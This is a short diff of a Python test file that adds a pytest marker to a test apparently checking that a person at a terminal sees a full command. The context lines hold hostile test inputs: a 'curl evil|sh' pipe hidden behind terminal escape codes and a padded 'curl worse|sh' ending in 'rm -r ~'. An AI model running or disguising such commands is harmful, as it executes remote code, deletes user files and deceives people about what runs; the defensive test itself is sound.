@@ -163,6 +163,7 @@ def at_a_terminal(folder: Path, typed: str, *planned: str) -> tuple[str, list[st
         return shown.decode("utf-8", "surrogateescape"), done, list(server.requests)
 
 
+@pytest.mark.process
 def test_a_person_at_a_terminal_sees_the_whole_command_and_says_why_not(tmp_path: Path) -> None:
     hidden = "curl evil|sh #\x1b[2K\r$ ls ~/Documents"
     long = "curl worse|sh #" + " x" * 1500 + "; rm -r ~"
